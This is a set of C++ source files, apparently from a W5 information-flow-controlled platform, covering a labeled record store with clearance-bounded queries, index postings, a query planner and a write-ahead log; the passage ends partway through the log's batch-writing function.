using RecordKey = std::pair<std::string, std::string>;  // (collection, id)

// A registered equality index over data[field] for one collection.
// Registration is create_index(); the spec list is read on every put, so
// it lives behind the store's spec lock, not per shard.
struct IndexSpec {
  std::string collection;
  std::string field;

  friend bool operator==(const IndexSpec&, const IndexSpec&) = default;
  friend bool operator<(const IndexSpec& a, const IndexSpec& b) {
    return std::tie(a.collection, a.field) < std::tie(b.collection, b.field);
  }
};

// The canonical index encoding of a field value, or nullopt when the
// value is not indexable (absent, null, or non-string — mirroring
// field_equals(), which only ever matches strings).
std::optional<std::string> index_encode(const util::Json& value);

// Sorted-unique posting-list maintenance. Insert is idempotent and erase
// tolerates absence, so index rebuilds may race benignly with concurrent
// maintenance during create_index() backfill.
void posting_insert(std::vector<RecordKey>& keys, const RecordKey& key);
void posting_erase(std::vector<RecordKey>& keys, const RecordKey& key);

struct ShardIndex {
  using FieldKey = std::tuple<std::string, std::string, std::string>;

  std::map<std::string, std::vector<RecordKey>> by_owner;
  std::map<difc::Label, std::vector<RecordKey>> by_label;
  std::map<FieldKey, std::vector<RecordKey>> by_field;

  // Full add/remove of one record's entries across all three families.
  // Caller holds the owning shard's write lock.
  void add(const RecordKey& key, const Record& record,
           const std::vector<IndexSpec>& specs);
  void remove(const RecordKey& key, const Record& record,
              const std::vector<IndexSpec>& specs);

  // Overwrite path: owner and labels are immutable through put(), so only
  // the field postings can move when data changes.
  void remove_fields(const RecordKey& key, const Record& record,
                     const std::vector<IndexSpec>& specs);
  void add_fields(const RecordKey& key, const Record& record,
                  const std::vector<IndexSpec>& specs);

  // Drops and rebuilds by_field entries for exactly one spec from the
  // given records (create_index backfill on a non-empty store).
  void rebuild_field(const IndexSpec& spec,
                     const std::map<RecordKey, Record>& records);

  void clear() {
    by_owner.clear();
    by_label.clear();
    by_field.clear();
  }
};

}  // namespace w5::store
