#include "store/query.h"

namespace w5::store {

RecordPredicate field_equals(std::string field, std::string value) {
  return [field = std::move(field), value = std::move(value)](
             const Record& record) {
    const util::Json& v = record.data.at(field);
    return v.is_string() && v.as_string() == value;
  };
}

RecordPredicate field_exists(std::string field) {
  return [field = std::move(field)](const Record& record) {
    return !record.data.at(field).is_null();
  };
}

RecordPredicate field_between(std::string field, double lo, double hi) {
  return [field = std::move(field), lo, hi](const Record& record) {
    const util::Json& v = record.data.at(field);
    return v.is_number() && v.as_number() >= lo && v.as_number() <= hi;
  };
}

RecordPredicate array_contains(std::string field, std::string value) {
  return [field = std::move(field), value = std::move(value)](
             const Record& record) {
    const util::Json& v = record.data.at(field);
    if (!v.is_array()) return false;
    for (const auto& item : v.as_array())
      if (item.is_string() && item.as_string() == value) return true;
    return false;
  };
}

RecordPredicate field_contains(std::string field, std::string needle) {
  return [field = std::move(field), needle = std::move(needle)](
             const Record& record) {
    const util::Json& v = record.data.at(field);
    return v.is_string() && v.as_string().find(needle) != std::string::npos;
  };
}

RecordPredicate and_also(RecordPredicate a, RecordPredicate b) {
  return [a = std::move(a), b = std::move(b)](const Record& record) {
    return a(record) && b(record);
  };
}

RecordPredicate or_else(RecordPredicate a, RecordPredicate b) {
  return [a = std::move(a), b = std::move(b)](const Record& record) {
    return a(record) || b(record);
  };
}

RecordPredicate negate(RecordPredicate p) {
  return [p = std::move(p)](const Record& record) { return !p(record); };
}

}  // namespace w5::store
