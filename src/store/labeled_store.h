// The labeled record store — W5's replacement for the SQL backend.
//
// The paper (§3.5) observes that "the SQL interface to databases can leak
// information implicitly and thus needs to be replaced under W5". This
// store is that replacement. The central covert-channel rule: a query
// runs against exactly the subset of records the calling process is
// *cleared* to see (S_r ⊆ clearance(p)); records above clearance do not
// exist from the caller's perspective — they affect no result, no count,
// no error, and no resource charge.
//
// Queries run through a small planner + index engine (DESIGN.md §17):
// per-shard posting lists (owner, secrecy-label set, registered
// field-value indexes, see index.h) kept in key order, a deterministic
// planner (planner.h) that picks the access path, and a covert-channel
// governor (query_governor.h) that quantizes counts and meters
// per-principal query budgets. Plans never change results, only cost.
#pragma once

#include <array>
#include <atomic>
#include <functional>
#include <map>
#include <optional>
#include <shared_mutex>
#include <string>
#include <vector>

#include "os/kernel.h"
#include "store/index.h"
#include "store/planner.h"
#include "store/query_governor.h"
#include "store/query_stats.h"
#include "store/record.h"
#include "util/clock.h"
#include "util/metrics.h"
#include "util/mutation_log.h"
#include "util/result.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::store {

enum class Raise : std::uint8_t { kNo, kYes };

// A predicate over record data; see query.h for composable builders.
using RecordPredicate = std::function<bool(const Record&)>;

// kAuto lets the planner choose; kScanOnly forces the label-grouped
// ordered scan — the bench/test hook that prices every index against the
// honest scan over identical data (results must be byte-identical).
enum class PlannerMode : std::uint8_t { kAuto, kScanOnly };

struct QueryOptions {
  std::size_t limit = SIZE_MAX;
  std::size_t offset = 0;     // skip the first N *visible+matching* rows
  std::string owner;          // filter by owner when non-empty
  RecordPredicate predicate;  // optional data filter

  // Indexable equality: data[eq_field] == eq_value (string compare, the
  // field_equals() semantics). Unlike `predicate` this constraint is
  // visible to the planner, so a registered index can serve it; when no
  // index matches it degrades to an ordinary filter.
  std::string eq_field;
  std::string eq_value;

  // Id range, inclusive on both ends when non-empty. Ids sort
  // lexicographically (zero-pad numeric ids, as the apps do).
  std::string min_id;
  std::string max_id;

  // Opaque resume token from QueryPage::next_cursor ("collection/id"):
  // resume strictly after that id. Unlike `offset`, resuming does not
  // re-scan skipped rows, so deep pagination stays O(page). Malformed or
  // mismatched cursors fail with store.bad_cursor.
  std::string cursor;

  // Principal charged against the per-principal query budget (§3.5).
  // Empty = unmetered (trusted front-end / internal scans).
  std::string principal;

  PlannerMode planner = PlannerMode::kAuto;
};

// One page of results plus the token that resumes after it. next_cursor
// is empty when the store can prove the page is the last one; a non-empty
// cursor may still resume onto an empty final page (the standard
// contract — emptiness of "the rest" is not probed in advance).
struct QueryPage {
  std::vector<Record> records;
  std::string next_cursor;
};

// Thread-safe and lock-striped: records live in kShardCount shards keyed
// by hash(collection, id), each with its own shared_mutex, so point
// operations on different records proceed in parallel. Scans (query,
// count, list_ids, snapshots) visit shards one at a time — never holding
// two shard locks — and merge-sort by key so results stay deterministic.
// Lock order: index-spec lock → store shard → kernel (charges and raises
// happen while a shard lock is held; the kernel never calls into the
// store; the spec list is copied out before any shard lock is taken).
class LabeledStore {
 public:
  // 16 stripes: comfortably above the worker-pool default (8) so two
  // random keys rarely contend, small enough that full scans stay cheap.
  static constexpr std::size_t kShardCount = 16;

  LabeledStore(os::Kernel& kernel, const util::Clock& clock)
      : kernel_(kernel), clock_(clock) {}

  LabeledStore(const LabeledStore&) = delete;
  LabeledStore& operator=(const LabeledStore&) = delete;

  // Creates or overwrites. Create stamps the given labels (creator must
  // satisfy the no-leak and endorsement rules); overwrite keeps the
  // existing labels and enforces the write rule against them.
  util::Status put(os::Pid pid, Record record);

  // Point lookup. Raise::kYes contaminates the caller to admit the
  // record; otherwise an unreadable record reports store.not_found — the
  // same error as a genuinely absent id, so existence cannot leak.
  util::Result<Record> get(os::Pid pid, const std::string& collection,
                           const std::string& id, Raise raise = Raise::kNo);

  util::Status remove(os::Pid pid, const std::string& collection,
                      const std::string& id);

  // Clearance-bounded scan; results are readable *after* the implied
  // raise (with kYes the caller's label is raised to the join of the
  // results; with kNo only records below the caller's current S return).
  util::Result<std::vector<Record>> query(os::Pid pid,
                                          const std::string& collection,
                                          const QueryOptions& options = {},
                                          Raise raise = Raise::kYes);

  // Cursor pagination: like query() but returns the resume token for the
  // next page. Pass it back via options.cursor (options.offset then
  // applies after the cursor — normally leave it 0).
  util::Result<QueryPage> query_page(os::Pid pid,
                                     const std::string& collection,
                                     const QueryOptions& options = {},
                                     Raise raise = Raise::kYes);

  // Covert-channel-safe count: counts only records within the same bound
  // query() uses, and the caller pays the same contamination — with
  // Raise::kYes (default) the caller's secrecy is raised to the join of
  // every counted record, exactly as if the records had been returned.
  // Counting without contamination (Raise::kNo) only sees records below
  // the caller's *current* label. The governor's count_quantum rounds
  // the result up (§3.5).
  util::Result<std::size_t> count(os::Pid pid, const std::string& collection,
                                  const QueryOptions& options = {},
                                  Raise raise = Raise::kYes);

  // Ids visible at the query bound; same raise contract as query().
  util::Result<std::vector<std::string>> list_ids(
      os::Pid pid, const std::string& collection, Raise raise = Raise::kYes);

  // ---- Index + governor management (TRUSTED provider plane) ---------------
  // Registers an equality index over data[field] for one collection and
  // backfills it shard by shard. Idempotent. New puts maintain the index
  // from the moment the spec is published, so registration on a live
  // store converges (posting inserts are idempotent).
  util::Status create_index(const std::string& collection,
                            const std::string& field);
  std::vector<IndexSpec> index_specs() const;

  // §3.5 knobs: count quantization and per-principal query budgets.
  // Resets the metering windows.
  void set_governor_config(const QueryGovernorConfig& config);

  // The governor's count rounding, exposed so every aggregate a caller
  // derives from this store (federated facet counts, merged totals) goes
  // through the SAME §3.5 quantization path as count() — one quantum,
  // one channel bound, no second code path to drift.
  std::size_t quantize_count(std::size_t count) const {
    return governor_.quantize(count);
  }

  std::size_t total_records() const;  // provider metric (trusted callers)

  // ---- Observability (DESIGN.md §11) ---------------------------------------
  // The store keeps its own relaxed atomics (it cannot depend on the
  // platform's MetricsRegistry); /metrics snapshots them at scrape time.
  // Counts say how often each shard/op was exercised — never what was in
  // a record.
  struct OpCounts {
    std::uint64_t gets = 0;
    std::uint64_t puts = 0;
    std::uint64_t removes = 0;
    std::uint64_t scans = 0;  // query/count/list_ids calls
  };
  OpCounts op_counts() const;
  // Per-shard operation totals (point ops hit one shard; scans touch all).
  std::array<std::uint64_t, kShardCount> shard_op_counts() const;

  // Planner/index/governor counters for statusz and /metrics (record-free
  // struct — see query_stats.h). Gauges are sampled under shard read
  // locks, one shard at a time.
  QueryEngineStats query_stats() const;

  // TRUSTED front-end only: every record a user owns, across all
  // collections (used by GET /export and account deletion). Not exposed
  // through AppContext — apps cannot enumerate collections.
  std::vector<Record> export_owned_by(const std::string& owner) const;

  util::Json to_json() const;
  // Swaps in a full snapshot under every shard lock at once — the locks
  // are taken through an index-ordered array the analysis cannot name, so
  // the implementation opts out with W5_NO_THREAD_SAFETY_ANALYSIS.
  util::Status load_json(const util::Json& snapshot);

  // ---- Durability (DESIGN.md §13) -------------------------------------------
  // When a log is attached every successful put/remove publishes a
  // store.put / store.remove op (full post-state, labels included) before
  // the call returns, honoring the log's durability mode.
  void set_mutation_log(util::MutationLog* log) { mutation_log_ = log; }

  // TRUSTED replay apply: reinstates the op's exact post-state — no flow
  // checks, no kernel charges, no telemetry (the original mutation was
  // checked and charged when it first ran). Idempotent: replaying an op
  // the snapshot already covers is a no-op-shaped overwrite.
  util::Status apply_wal(const util::Json& op);

 private:
  using Key = RecordKey;  // (collection, id)

  struct Shard {
    mutable util::SharedMutex mutex{util::lockrank::kStoreShard,
                                    "Shard::mutex"};
    // map keeps iteration deterministic for snapshots and queries.
    std::map<Key, Record> records W5_GUARDED_BY(mutex);
    // Secondary indexes (owner / label-set / field postings, index.h),
    // maintained in lockstep with `records` on every mutation.
    ShardIndex index W5_GUARDED_BY(mutex);
    // Telemetry: operations that touched this shard (relaxed; approximate
    // under races is fine for a load-balance signal).
    mutable std::atomic<std::uint64_t> ops{0};
  };

  static std::size_t shard_index(const Key& key);
  Shard& shard_for(const Key& key) { return shards_[shard_index(key)]; }
  const Shard& shard_for(const Key& key) const {
    return shards_[shard_index(key)];
  }

  util::Result<difc::LabelState> caller(os::Pid pid) const;
  static bool visible(const Record& record, const difc::Label& clearance);

  // The scan engine: runs `plan` over every shard (one read lock at a
  // time), emitting visible records that match every `options` constraint
  // in ascending key order *per shard*, at most `per_shard_cap` per
  // shard. `start_after` is the cursor bound (exclusive), empty = none.
  // sink() returning false stops the whole scan (global early exit).
  void scan_shards(const std::string& collection, const QueryOptions& options,
                   const QueryPlan& plan, const difc::Label& bound,
                   const std::string& start_after, std::size_t per_shard_cap,
                   const std::function<bool(const Record&)>& sink) const;

  // Shared by query()/query_page(): governor admission, cursor parsing,
  // planning, scan, merge-sort, pagination, raise, charge.
  util::Result<QueryPage> run_query(os::Pid pid, const std::string& collection,
                                    const QueryOptions& options, Raise raise);

  std::vector<IndexSpec> specs_snapshot() const;

  std::array<Shard, kShardCount> shards_;

  mutable util::SharedMutex specs_mutex_{util::lockrank::kStoreIndexSpecs,
                                         "LabeledStore::specs_mutex_"};
  std::vector<IndexSpec> specs_ W5_GUARDED_BY(specs_mutex_);

  mutable std::atomic<std::uint64_t> gets_{0};
  mutable std::atomic<std::uint64_t> puts_{0};
  mutable std::atomic<std::uint64_t> removes_{0};
  mutable std::atomic<std::uint64_t> scans_{0};

  // Planner/engine counters (relaxed; see query_stats.h).
  mutable std::atomic<std::uint64_t> plans_field_{0};
  mutable std::atomic<std::uint64_t> plans_owner_{0};
  mutable std::atomic<std::uint64_t> plans_scan_{0};
  mutable std::atomic<std::uint64_t> label_groups_checked_{0};
  mutable std::atomic<std::uint64_t> label_groups_skipped_{0};
  mutable std::atomic<std::uint64_t> cursor_resumes_{0};

  os::Kernel& kernel_;
  const util::Clock& clock_;
  QueryGovernor governor_{clock_};
  util::MutationLog* mutation_log_ = nullptr;
};

}  // namespace w5::store
