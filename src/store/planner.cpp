#include "store/planner.h"

#include <algorithm>

#include "store/labeled_store.h"

namespace w5::store {

const char* plan_kind_name(PlanKind kind) {
  switch (kind) {
    case PlanKind::kFieldIndex:
      return "field_index";
    case PlanKind::kOwnerIndex:
      return "owner_index";
    case PlanKind::kLabelScan:
      return "label_scan";
  }
  return "unknown";
}

QueryPlan plan_query(const std::string& collection,
                     const QueryOptions& options,
                     const std::vector<IndexSpec>& specs) {
  QueryPlan plan;
  if (options.planner == PlannerMode::kScanOnly) return plan;

  const bool has_owner = !options.owner.empty();
  const bool eq_indexed =
      !options.eq_field.empty() &&
      std::find(specs.begin(), specs.end(),
                IndexSpec{collection, options.eq_field}) != specs.end();

  if (eq_indexed) {
    // Equality postings are usually the most selective list available;
    // when an owner constraint rides along the engine still compares the
    // two lists per shard and walks the shorter one.
    plan.kind = PlanKind::kFieldIndex;
    plan.field = options.eq_field;
    plan.value = options.eq_value;
    plan.owner_alternative = has_owner;
    return plan;
  }
  if (has_owner) {
    plan.kind = PlanKind::kOwnerIndex;
    return plan;
  }
  return plan;  // kLabelScan
}

}  // namespace w5::store
