#include "store/wal.h"

#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>

#include "util/bytes.h"
#include "util/log.h"

namespace w5::store {

namespace fs = std::filesystem;

std::string to_string(DurabilityMode mode) {
  switch (mode) {
    case DurabilityMode::kNone:
      return "none";
    case DurabilityMode::kInterval:
      return "interval";
    case DurabilityMode::kFsync:
      return "fsync";
  }
  return "none";
}

namespace {

void put_u32(std::uint32_t v, std::string& out) {
  for (int i = 0; i < 4; ++i)
    out.push_back(static_cast<char>((v >> (8 * i)) & 0xFF));
}

void put_u64(std::uint64_t v, std::string& out) {
  for (int i = 0; i < 8; ++i)
    out.push_back(static_cast<char>((v >> (8 * i)) & 0xFF));
}

std::uint32_t read_u32(const char* p) {
  std::uint32_t v = 0;
  for (int i = 3; i >= 0; --i)
    v = (v << 8) | static_cast<std::uint8_t>(p[i]);
  return v;
}

std::uint64_t read_u64(const char* p) {
  std::uint64_t v = 0;
  for (int i = 7; i >= 0; --i)
    v = (v << 8) | static_cast<std::uint8_t>(p[i]);
  return v;
}

util::Micros steady_micros() {
  return std::chrono::duration_cast<std::chrono::microseconds>(
             std::chrono::steady_clock::now().time_since_epoch())
      .count();
}

// wal-<seq, 20 decimal digits>.log — zero-padded so lexicographic
// directory order is sequence order.
constexpr char kSegmentPrefix[] = "wal-";
constexpr char kSegmentSuffix[] = ".log";

struct SegmentFile {
  std::uint64_t first_seq = 0;
  fs::path path;
  bool operator<(const SegmentFile& other) const {
    return first_seq < other.first_seq;
  }
};

std::vector<SegmentFile> list_segments(const std::string& dir) {
  std::vector<SegmentFile> out;
  std::error_code ec;
  for (const auto& entry : fs::directory_iterator(dir, ec)) {
    const std::string name = entry.path().filename().string();
    if (!name.starts_with(kSegmentPrefix) || !name.ends_with(kSegmentSuffix))
      continue;
    const std::string digits = name.substr(
        sizeof(kSegmentPrefix) - 1,
        name.size() - sizeof(kSegmentPrefix) - sizeof(kSegmentSuffix) + 2);
    if (digits.empty() ||
        digits.find_first_not_of("0123456789") != std::string::npos)
      continue;
    out.push_back({std::strtoull(digits.c_str(), nullptr, 10), entry.path()});
  }
  std::sort(out.begin(), out.end());
  return out;
}

}  // namespace

std::string wal_segment_name(std::uint64_t first_seq) {
  std::string digits = std::to_string(first_seq);
  return std::string(kSegmentPrefix) +
         std::string(20 - std::min<std::size_t>(digits.size(), 20), '0') +
         digits + kSegmentSuffix;
}

void wal_encode_frame(std::uint64_t seq, std::string_view payload,
                      std::string& out) {
  std::string seq_le;
  put_u64(seq, seq_le);
  const std::uint32_t crc =
      util::crc32_update(util::crc32(seq_le), payload);
  put_u32(static_cast<std::uint32_t>(payload.size()), out);
  put_u32(crc, out);
  out += seq_le;
  out += payload;
}

util::Result<WriteAheadLog::ReplayResult> WriteAheadLog::replay(
    const std::string& dir, std::uint64_t from_seq,
    const std::function<util::Status(std::uint64_t seq,
                                     const std::string& payload)>& apply,
    bool repair) {
  ReplayResult result;
  result.last_seq = from_seq > 0 ? from_seq - 1 : 0;

  std::vector<SegmentFile> segments = list_segments(dir);
  // Segments entirely below the snapshot boundary are already covered by
  // the snapshot (rotation precedes the snapshot that names `from_seq`,
  // so the boundary normally falls on a segment start); skip them without
  // touching them — compaction GC owns their removal. A segment is wholly
  // covered only when its *successor* also starts at or below from_seq:
  // the last segment at-or-below may still contain frames we need, which
  // the per-frame seq >= from_seq filter below skips cheaply.
  std::size_t first_needed = 0;
  for (std::size_t i = 0; i < segments.size(); ++i)
    if (segments[i].first_seq <= from_seq) first_needed = i;
  segments.erase(segments.begin(),
                 segments.begin() + static_cast<std::ptrdiff_t>(first_needed));

  // A hole *below* the log is not a torn tail: if the oldest surviving
  // segment starts after from_seq (e.g. the covering snapshot rotted and
  // recovery fell back to an older one whose segments were GC'd), frames
  // the caller needs are gone and "success" would silently drop committed
  // mutations. Sequences start at 1, so from_seq 0 means "everything".
  if (!segments.empty() &&
      segments.front().first_seq > std::max<std::uint64_t>(from_seq, 1)) {
    return util::make_error(
        "wal.replay",
        "missing segments: replay must resume at seq " +
            std::to_string(from_seq) + " but the oldest segment starts at " +
            std::to_string(segments.front().first_seq));
  }

  std::uint64_t expected = 0;
  // Where the valid prefix ends: the segment being read and the offset of
  // the first invalid byte in it (everything after is discarded by repair).
  std::size_t stop_segment = segments.size();
  std::uint64_t stop_offset = 0;

  for (std::size_t i = 0; i < segments.size(); ++i) {
    const SegmentFile& segment = segments[i];
    if (expected == 0) {
      expected = segment.first_seq;
    } else if (segment.first_seq != expected) {
      // A gap means the intervening segment vanished; everything from
      // here on is not a continuation of the committed prefix.
      stop_segment = i;
      result.tail_torn = true;
      break;
    }

    std::ifstream in(segment.path, std::ios::binary);
    if (!in) {
      stop_segment = i;
      result.tail_torn = true;
      break;
    }
    std::uint64_t offset = 0;
    std::string header(kWalHeaderBytes, '\0');
    std::string payload;
    bool torn = false;
    for (;;) {
      in.read(header.data(), static_cast<std::streamsize>(header.size()));
      if (in.gcount() == 0) break;  // clean end of segment
      if (static_cast<std::size_t>(in.gcount()) < header.size()) {
        torn = true;  // truncated mid-header
        break;
      }
      const std::uint32_t len = read_u32(header.data());
      const std::uint32_t crc = read_u32(header.data() + 4);
      const std::uint64_t seq = read_u64(header.data() + 8);
      if (len > kWalMaxPayloadBytes || seq != expected) {
        torn = true;  // corrupt length or sequence discontinuity
        break;
      }
      payload.resize(len);
      in.read(payload.data(), static_cast<std::streamsize>(len));
      if (static_cast<std::size_t>(in.gcount()) < len) {
        torn = true;  // truncated mid-payload
        break;
      }
      const std::uint32_t actual = util::crc32_update(
          util::crc32(std::string_view(header.data() + 8, 8)), payload);
      if (actual != crc) {
        torn = true;  // bit rot or a torn rewrite
        break;
      }
      if (seq >= from_seq) {
        if (auto status = apply(seq, payload); !status.ok())
          return status.error();
        ++result.entries;
      }
      result.last_seq = seq;
      expected = seq + 1;
      offset += kWalHeaderBytes + len;
    }
    if (torn) {
      stop_segment = i;
      stop_offset = offset;
      result.tail_torn = true;
      break;
    }
  }

  if (repair && result.tail_torn && stop_segment < segments.size()) {
    std::error_code ec;
    const auto size = fs::file_size(segments[stop_segment].path, ec);
    if (!ec && size > stop_offset) {
      result.truncated_bytes += size - stop_offset;
      fs::resize_file(segments[stop_segment].path, stop_offset, ec);
      if (ec) {
        return util::make_error("wal.repair",
                                "cannot truncate torn tail of " +
                                    segments[stop_segment].path.string());
      }
    }
    for (std::size_t i = stop_segment + 1; i < segments.size(); ++i) {
      std::error_code rm;
      const auto orphan = fs::file_size(segments[i].path, rm);
      if (!rm) result.truncated_bytes += orphan;
      fs::remove(segments[i].path, rm);
    }
  }
  return result;
}

WriteAheadLog::WriteAheadLog(std::string dir, std::uint64_t next_seq,
                             WalOptions options)
    : dir_(std::move(dir)), options_(std::move(options)), next_seq_(next_seq) {
  durable_seq_ = written_seq_ = flushed_seq_ = next_seq - 1;
  if (options_.metrics != nullptr) {
    appends_ = &options_.metrics->counter("w5_wal_appends_total");
    append_bytes_ = &options_.metrics->counter("w5_wal_append_bytes_total");
    fsyncs_ = &options_.metrics->counter("w5_wal_fsyncs_total");
    rotations_ = &options_.metrics->counter("w5_wal_rotations_total");
    batch_entries_ = &options_.metrics->histogram(
        "w5_wal_batch_entries", {1, 2, 4, 8, 16, 32, 64, 128, 256});
    fsync_micros_ = &options_.metrics->histogram("w5_wal_fsync_micros");
  }
}

util::Result<std::unique_ptr<WriteAheadLog>> WriteAheadLog::open(
    const std::string& dir, std::uint64_t next_seq, WalOptions options) {
  std::error_code ec;
  fs::create_directories(dir, ec);
  if (ec)
    return util::make_error("wal.open", "cannot create WAL dir '" + dir + "'");
  auto log = std::unique_ptr<WriteAheadLog>(
      new WriteAheadLog(dir, next_seq, std::move(options)));
  {
    const util::MutexLock lock(log->mutex_);
    if (auto status = log->open_segment_locked(next_seq); !status.ok())
      return status.error();
  }
  log->flusher_ = std::thread([raw = log.get()] { raw->flusher_main(); });
  return log;
}

WriteAheadLog::~WriteAheadLog() { close(); }

util::Status WriteAheadLog::open_segment_locked(std::uint64_t first_seq) {
  auto file = net::FaultyFile::create(
      (fs::path(dir_) / wal_segment_name(first_seq)).string(), options_.fault);
  if (!file.ok()) return file.error();
  file_ = std::move(file).value();
  segment_start_ = first_seq;
  segment_bytes_ = 0;
  return util::ok_status();
}

std::uint64_t WriteAheadLog::append(std::string payload) {
  if (payload.size() > kWalMaxPayloadBytes) {
    // An oversized frame would be written and acked, but replay treats
    // len > kWalMaxPayloadBytes as corruption and truncates there — losing
    // this frame and every committed frame after it. Refuse it up front
    // (this also guards the u32 length cast); the log stays healthy.
    util::log_error("wal: rejecting ", payload.size(),
                    "-byte append; frame limit is ", kWalMaxPayloadBytes);
    return 0;
  }
  std::uint64_t seq;
  {
    const util::MutexLock lock(mutex_);
    if (closing_ || failed_.load(std::memory_order_relaxed)) return 0;
    seq = next_seq_++;
    pending_.push_back({seq, std::move(payload)});
  }
  if (appends_ != nullptr) appends_->inc();
  pending_cv_.notify_one();
  return seq;
}

util::Status WriteAheadLog::wait_durable(std::uint64_t seq) {
  if (seq == 0) {
    const util::MutexLock lock(mutex_);
    if (failed_.load(std::memory_order_relaxed)) return fail_status_locked();
    return util::make_error(
        "wal.append", closing_ ? "log is closed" : "mutation was not logged");
  }
  if (options_.mode != DurabilityMode::kFsync) {
    // Weak modes ack immediately — unless the log is already known dead,
    // in which case nothing new will ever reach disk.
    if (!failed_.load(std::memory_order_acquire)) return util::ok_status();
    const util::MutexLock lock(mutex_);
    return fail_status_locked();
  }
  util::UniqueLock lock(mutex_);
  durable_cv_.wait(lock.native(), [&]() W5_REQUIRES(mutex_) {
    return durable_seq_ >= seq || closing_ ||
           failed_.load(std::memory_order_relaxed);
  });
  if (durable_seq_ >= seq) return util::ok_status();
  if (failed_.load(std::memory_order_relaxed)) return fail_status_locked();
  return util::make_error("wal.closed",
                          "log closed before seq " + std::to_string(seq) +
                              " became durable");
}

util::Status WriteAheadLog::flush() {
  util::UniqueLock lock(mutex_);
  if (failed_.load(std::memory_order_relaxed)) return fail_status_locked();
  if (!file_.valid() || closing_) return util::ok_status();
  const std::uint64_t target = next_seq_ - 1;
  ++flush_requests_;
  pending_cv_.notify_one();
  durable_cv_.wait(lock.native(), [&]() W5_REQUIRES(mutex_) {
    return flushed_seq_ >= target || closing_ ||
           failed_.load(std::memory_order_relaxed);
  });
  if (flushed_seq_ >= target) return util::ok_status();
  if (failed_.load(std::memory_order_relaxed)) return fail_status_locked();
  return util::ok_status();  // closing: close() drains the tail itself
}

std::uint64_t WriteAheadLog::rotate() {
  util::UniqueLock lock(mutex_);
  if (failed_.load(std::memory_order_relaxed)) return 0;
  const std::uint64_t boundary = next_seq_;
  if (closing_ || !file_.valid()) return boundary;
  rotate_at_ = boundary;
  pending_cv_.notify_one();
  durable_cv_.wait(lock.native(), [&]() W5_REQUIRES(mutex_) {
    return segment_start_ >= boundary || closing_ ||
           failed_.load(std::memory_order_relaxed);
  });
  // The new segment never opened (failed log, or closed mid-rotation):
  // the boundary is unproven, so the caller must not checkpoint on it.
  if (segment_start_ < boundary) return 0;
  return boundary;
}

util::Status WriteAheadLog::remove_segments_below(std::uint64_t seq) {
  for (const SegmentFile& segment : list_segments(dir_)) {
    bool current;
    {
      const util::MutexLock lock(mutex_);
      current = segment.first_seq >= segment_start_;
    }
    if (current || segment.first_seq >= seq) continue;
    std::error_code ec;
    fs::remove(segment.path, ec);
    if (ec) {
      return util::make_error("wal.gc",
                              "cannot remove " + segment.path.string());
    }
  }
  return util::ok_status();
}

std::uint64_t WriteAheadLog::last_appended_seq() const {
  const util::MutexLock lock(mutex_);
  return next_seq_ - 1;
}

std::uint64_t WriteAheadLog::durable_seq() const {
  const util::MutexLock lock(mutex_);
  return durable_seq_;
}

std::uint64_t WriteAheadLog::segment_bytes() const {
  const util::MutexLock lock(mutex_);
  return segment_bytes_;
}

std::uint64_t WriteAheadLog::segment_start() const {
  const util::MutexLock lock(mutex_);
  return segment_start_;
}

void WriteAheadLog::close() {
  {
    const util::MutexLock lock(mutex_);
    if (closing_) return;
    closing_ = true;
  }
  pending_cv_.notify_all();
  durable_cv_.notify_all();
  if (flusher_.joinable()) flusher_.join();
  file_.close();
}

void WriteAheadLog::fail_locked(std::string reason) {
  if (!failed_.load(std::memory_order_relaxed)) {
    fail_reason_ = std::move(reason);
    failed_.store(true, std::memory_order_release);
    util::log_error("wal: failed, refusing further appends: ", fail_reason_);
  }
  pending_cv_.notify_all();
  durable_cv_.notify_all();
}

util::Status WriteAheadLog::fail_status_locked() const {
  return util::make_error(
      "wal.failed",
      fail_reason_.empty() ? "write-ahead log failed" : fail_reason_);
}

void WriteAheadLog::flusher_main() {
  const auto interval =
      std::chrono::microseconds(std::max<util::Micros>(
          options_.flush_interval_micros, 1));
  util::UniqueLock lock(mutex_);
  for (;;) {
    const auto ready = [&]() W5_REQUIRES(mutex_) {
      return !pending_.empty() || closing_ || rotate_at_ != 0 ||
             flush_requests_ > flush_serviced_;
    };
    if (options_.mode == DurabilityMode::kInterval) {
      pending_cv_.wait_for(lock.native(), interval, ready);
    } else {
      pending_cv_.wait(lock.native(), ready);
    }
    if (failed_.load(std::memory_order_relaxed)) {
      // Poisoned: a torn frame may sit mid-segment, so writing anything
      // more would bury committed-looking frames behind it. Drop pending
      // work (its waiters were already woken with the failure) and keep
      // the flush/rotate handshakes from hanging.
      pending_.clear();
      flush_serviced_ = std::max(flush_serviced_, flush_requests_);
      rotate_at_ = 0;
      durable_cv_.notify_all();
      if (closing_) break;
      continue;
    }
    const bool draining = closing_;
    std::vector<Pending> batch = std::move(pending_);
    pending_.clear();
    const std::uint64_t rotate_boundary = rotate_at_;
    const std::uint64_t flush_req = flush_requests_;
    const bool force = flush_req > flush_serviced_ || draining;
    lock.unlock();

    // A rotation splits the batch: frames below the boundary complete the
    // old segment (always fsynced — closed segments are fully durable),
    // the rest open the new one.
    std::vector<Pending> tail;
    if (rotate_boundary != 0) {
      const auto split = std::partition_point(
          batch.begin(), batch.end(),
          [&](const Pending& p) { return p.seq < rotate_boundary; });
      tail.assign(std::make_move_iterator(split),
                  std::make_move_iterator(batch.end()));
      batch.erase(split, batch.end());
      write_batch(std::move(batch), /*force_fsync=*/true);
      if (!failed_.load(std::memory_order_relaxed)) {
        file_.close();
        lock.lock();
        const util::Status opened = open_segment_locked(rotate_boundary);
        if (!opened.ok()) {
          // rotate() is blocked on segment_start_ reaching the boundary,
          // which now never happens — fail so it (and every append since
          // the old segment closed) unblocks with an error instead of
          // hanging the checkpoint path forever.
          fail_locked("rotate: cannot open new segment: " +
                      opened.error().detail);
        } else if (rotations_ != nullptr) {
          rotations_->inc();
        }
        rotate_at_ = 0;
        lock.unlock();
      } else {
        lock.lock();
        rotate_at_ = 0;
        lock.unlock();
      }
      durable_cv_.notify_all();
      batch = std::move(tail);
      tail.clear();
    }
    if (!failed_.load(std::memory_order_relaxed) &&
        (!batch.empty() || force)) {
      write_batch(std::move(batch), force);
    }

    lock.lock();
    flush_serviced_ = std::max(flush_serviced_, flush_req);
    if (closing_ && pending_.empty() && rotate_at_ == 0) break;
  }
}

void WriteAheadLog::write_batch(std::vector<Pending> batch, bool force_fsync) {
  std::string buf;
  std::uint64_t last_seq = 0;
  for (const Pending& entry : batch) {
    wal_encode_frame(entry.seq, entry.payload, buf);
